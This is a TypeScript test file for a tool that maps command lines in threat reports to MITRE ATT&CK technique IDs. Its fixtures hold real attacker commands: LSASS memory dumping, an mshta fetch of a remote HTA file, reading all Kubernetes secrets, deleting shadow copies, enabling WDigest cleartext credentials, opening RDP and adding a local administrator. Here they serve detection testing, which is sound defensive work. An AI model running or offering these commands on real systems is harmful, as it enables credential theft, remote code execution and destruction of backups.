import assert from "node:assert/strict";
import { classify } from "../../../src/mapping/classify.ts";
import { mapReport } from "../../../src/mapping/map-report.ts";
import { parseReport } from "../../../src/report/parse.ts";
import { catalogue, lexicon, model } from "../catalogue.ts";

const fence = "```";

const shownBy = (command: string): readonly string[] => {
  const report = parseReport(`They ran:\n\n${fence}\n${command}\n${fence}\n`, { path: "report.md" });
  return mapReport(report, catalogue, lexicon, { model })
    .mentions.filter(({ object }) => object.type === "technique")
    .map(({ object }) => object.id);
};

/** A line of a code block, and all techniques that it shows. */
const shown: readonly (readonly [command: string, techniques: readonly string[]])[] = [
  ["procdump64.exe -accepteula -ma lsass.exe x", ["T1003.001"]],
  ["rundll32.exe comsvcs.dll MiniDump 624 C:\\t\\x.dmp full", ["T1003.001"]],
  ["rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\x.dmp full", ["T1003.001"]],
  ["mshta http://203.0.113.4/a.hta", ["T1218.005"]],
  ["kubectl get secrets --all-namespaces", ["T1552.007"]],
  ["tasklist /v; systeminfo; netstat -ano; arp -a", ["T1057", "T1082", "T1049", "T1016"]],
  ["Get-WmiObject Win32_Shadowcopy | Remove-WmiObject", ["T1490"]],
  ["Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}", ["T1490"]],
  [
    "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1",
    ["T1112"],
  ],
  ["netsh advfirewall firewall add rule name=x dir=in protocol=tcp localport=3389 action=allow", ["T1562.004"]],
  ["crontab -l", []],
  ["net localgroup administrators x /add", ["T1098.007"]],
  ["nslookup -type=any corp.local", ["T1018"]],
  ["nslookup -type=any example.com", ["T1590.002"]],
  ["systeminfo", ["T1082"]],
  ["C:\\Users\\x> whoami", ["T1033"]],
  ["hostname WS-044", []],
];

/** Inline code that only names a file, and a technique that it alone is no sign of. */
const named: readonly (readonly [sentence: string, technique: string])[] = [
  ["The package carries a signed copy of `vmtoolsd.exe`.", "T1675"],
  ["The loader is disguised as `AnyDesk.exe`.", "T1219.002"],
  ["They read passwords in `docker-compose.yml` and `Jenkinsfile`.", "T1677"],
];

describe("commands in code", () => {
  for (const [command, techniques] of shown)
    it(command, () => {
      assert.deepEqual(shownBy(command), techniques);
    });

  for (const [sentence, technique] of named)
    it(sentence, () => {
      const { mentions } = mapReport(parseReport(sentence, { path: "report.md" }), catalogue, lexicon);
      assert.deepEqual(
        mentions.filter(({ by, object }) => by === "command" && object.id === technique),
        [],
      );
    });

  it("are accepted by classify as by map", () => {
    const accepted = classify("mshta http://203.0.113.4/a.hta", catalogue, { lexicon, model })
      .filter((one) => one.accepted)
      .map(({ id }) => id);
    assert.deepEqual(accepted, ["T1218.005"]);
  });
});
